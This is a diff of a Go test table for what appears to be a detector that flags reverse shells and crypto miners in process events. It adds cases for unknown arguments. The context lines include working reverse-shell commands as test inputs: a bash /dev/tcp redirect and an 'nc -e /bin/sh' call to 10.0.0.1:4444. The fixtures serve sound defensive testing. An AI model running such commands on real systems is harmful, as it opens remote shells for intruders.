@@ -93,6 +93,8 @@ func TestProcessDetections(t *testing.T) {
 		{"python with one", reverse, with(command("/usr/bin/python3.12"), func(ev *Event) { ev.Program.RemoteIO = true }), ReverseShell, "another machine"},
 		{"a server with one (inetd)", reverse, with(command("/usr/sbin/in.ftpd"), func(ev *Event) { ev.Program.RemoteIO = true }), "", ""},
 		{"a shell, not known", reverse, with(command("/bin/sh"), func(ev *Event) { ev.Unsure = NeedRemoteIO }), ReverseShell, ""},
+		{"a shell of unknown arguments", reverse, with(command("/bin/sh"), func(ev *Event) { ev.Unsure = NeedArgv }), ReverseShell, ""},
+		{"a program of unknown arguments", miners, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedArgv }), CryptoMiner, "could not be found out"},
 		{"ls, not known", reverse, with(command("/bin/ls"), func(ev *Event) { ev.Unsure = NeedRemoteIO }), "", ""},
 		{"/dev/tcp", reverse, command("/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ReverseShell, "/dev/tcp"},
 		{"nc -e", reverse, command("/usr/bin/nc", "10.0.0.1", "4444", "-e", "/bin/sh"), ReverseShell, "/bin/sh"},
